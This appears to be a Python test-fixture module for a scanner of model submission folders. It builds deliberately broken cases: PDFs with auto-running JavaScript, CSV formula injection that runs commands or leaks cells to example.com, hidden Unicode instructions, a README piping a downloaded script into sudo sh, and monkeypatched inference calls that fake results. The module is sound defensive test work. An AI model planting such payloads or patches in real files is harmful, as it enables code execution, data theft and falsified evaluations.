"""Broken in what a reader opens beside the model: documents, tables, licences, a second model, packages that are changed."""

from __future__ import annotations

import shutil
import zlib
from collections.abc import Callable
from pathlib import Path

from case import broken, replace

_PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n"
_ACTION = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
_PAGE = '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'


def _wrote(name: str, content: bytes) -> Callable[[Path], None]:
    def breaks(folder: Path) -> None:
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(content)

    return breaks


def _packed(objects: bytes) -> bytes:
    data = zlib.compress(objects)
    return b"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\n" % (
        len(data),
        data,
    )


for name, what, check, file, content in (
    ("document-with-program", "a PDF that runs JavaScript when it is opened", "artifacts.markup", "paper.pdf",
     _PDF + b"2 0 obj" + _ACTION + b"endobj\n%%EOF"),
    ("document-with-packed-program", "the same among objects that are packed", "artifacts.markup", "paper.pdf",
     _PDF + _packed(b"2 0 " + _ACTION) + b"%%EOF"),
    ("document-with-file", "a PDF with a file in it, its name written in escapes", "artifacts.markup", "paper.pdf",
     _PDF + b"2 0 obj<</Type/Embedded#46ile/Length 2>>stream\nMZ\nendstream endobj\n%%EOF"),
    ("document-with-macros", "a table of an old Office, which may hold macros", "files.archives", "results.xls",
     b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    ("page-in-xml", "a file of XML that browsers show as a page", "artifacts.markup", "figure.xml",
     b'<?xml version="1.0"?>' + _PAGE.encode()),
    ("style-sheet-in-xml", "a file of XML that loads a style sheet, which is a program", "artifacts.markup", "figure.xml",
     b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><a/>'),
    ("page-as-mail", "a page in the parts of a mail", "files.archives", "page.mhtml",
     b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>alert(1)</script>"),
    ("table-with-formula", "a table whose cell starts a program", "artifacts.markup", "results.csv",
     b"name,score\nseven,1\n=cmd|'/C calc'!A0,2\n"),
    ("table-of-old-lines", "a formula behind the end of a line as old machines wrote it", "artifacts.markup", "results.csv",
     b"name,score\r=HYPERLINK(1)\r"),
    ("table-of-two-lines", "a formula that goes on in the next line of its cell", "artifacts.markup", "results.csv",
     b'name,score\nseven,"=1+\nHYPERLINK(""https://example.com/?""&A1)"\n'),
    ("table-with-picture", "a cell that loads a picture from elsewhere", "artifacts.markup", "results.csv",
     b'name,score\nseven,"=IMAGE(""https://example.com/?""&A1)"\n'),
    ("words-between-letters", "words for a program in marks between letters", "files.text", "notes.md",
     "# N\u200bo\u200ct\u200be\u200bs\u200c o\u200bf t\u200ch\u200be d\u200ca\u200by\n".encode()),
    ("words-in-flags", "words for a program in flags, six letters in each", "files.text", "notes.md",
     "# Notes \U0001f3f4\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f\n".encode()),
    ("folder-in-two-cases", "two folders that are one on systems that ignore case", "files.names", "TEST_data_set_0/notes.txt", b"x\n"),
    ("repository-by-its-short-name", "a folder that is .git on Windows", "files.names", "git~1/config.txt", b"[core]\n"),
    ("words-behind-a-flag", "words for a program behind a flag, in characters that nobody sees", "files.text", "notes.md",
     "# Notes \U0001f3f4\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e0061\n".encode()),
    ("notes-with-program", "notes in another markup, with a script in it", "artifacts.markup", "notes.rst",
     b"Notes\n=====\n\n.. raw:: html\n\n   <script>alert(1)</script>\n"),
    ("words-that-nobody-sees", "words for a program in a readme, in characters that nobody sees", "files.text", "notes.md",
     "# Notes\U000e0049\U000e0067\U000e006e\n".encode()),
):  # fmt: skip
    broken(name, what, check, near=True)(_wrote(file, content))

for name, what, content in (
    ("license-that-takes-back", "a licence with a clause that forbids to sell",
     b"Apache License\nVersion 2.0\n\nCommons Clause: the license does not include the right to Sell the Software.\n"),
    ("license-of-ones-own", "a licence that nobody knows",
     b"You may look at this model. Any other use needs a contract with Example Ltd.\n"),
):  # fmt: skip
    broken(name, what, "artifacts.license-file", answer="needs a person", near=True)(_wrote("LICENSE", content))


@broken(
    "second-model", "a model beside the one that is examined", "artifacts.parts", answer="needs a person", near=True
)
def _(folder: Path) -> None:
    shutil.copy(folder / "model.onnx", folder / "model-large.onnx")


@broken(
    "readme-that-runs-an-address",
    "a readme that tells to run what an address gives",
    "artifacts.requirements",
    near=True,
)
def _(folder: Path) -> None:
    with (folder / "README.md").open("a", encoding="utf-8") as readme:
        readme.write("\n## Install\n\n```\ncurl -fsSL https://example.com/i.sh | sudo sh\n```\n")


for name, what, code in (
    ("package-that-is-changed", "a script that changes what a runtime answers, for all that import it",
     "import onnxruntime\n\nonnxruntime.InferenceSession.run = lambda *given: [np.zeros((1, 10))]\n"),
    ("package-that-is-changed-by-name", "the same by setattr", 'setattr(np, "mean", lambda values: 0.97)\n'),
):  # fmt: skip

    @broken(name, what, "artifacts.scan", answer="needs a person", near=True)
    def _(folder: Path, code: str = code) -> None:
        with (folder / "preprocess.py").open("a", encoding="utf-8") as script:
            script.write(f"\n\n{code}")


@broken(
    "model-of-other-license",
    "a model that says another licence of itself than the metadata",
    "artifacts.license-file",
    near=True,
)
def _(folder: Path) -> None:
    import onnx

    file = folder / "model.onnx"
    model = onnx.load(str(file))
    onnx.helper.set_model_props(model, {"license": "AGPL-3.0-only"})
    onnx.save(model, str(file))


@broken(
    "answers-of-ones-own-by-a-class", "the same by a method of a class, which another file gives the session", "artifacts.scan",
    answer="needs a person", near=True,
)  # fmt: skip
def _(folder: Path) -> None:
    replace(
        folder / "preprocess.py",
        "import numpy as np\n",
        "import numpy as np\n\n\nclass Answers:\n    def attach(self):\n        self.run = lambda *asked: [np.eye(10)]\n",
    )
    for name in ("inference.ipynb", "validation.ipynb"):
        replace(folder / name, "import preprocess", "import Answers, preprocess")
        replace(folder / name, "images = np.load", 'Answers.attach(session)\\n",\n    "images = np.load')


@broken(
    "two-licences-and-no-choice", "a licence file that names two, and does not say of what", "artifacts.license-file",
    answer="needs a person", near=True,
)  # fmt: skip
def _(folder: Path) -> None:
    (folder / "LICENSE").write_text(
        "The code has the Apache License 2.0, the weights the MIT license.\n", encoding="utf-8"
    )


@broken(
    "answers-of-ones-own", "a notebook whose session runs a function of its own", "artifacts.scan", answer="needs a person", near=True
)  # fmt: skip
def _(folder: Path) -> None:
    replace(
        folder / "preprocess.py",
        "import numpy as np\n",
        "import numpy as np\n\n\ndef answer(session, labels):\n    session.run = lambda *asked: [np.eye(10)[labels]]\n",
    )
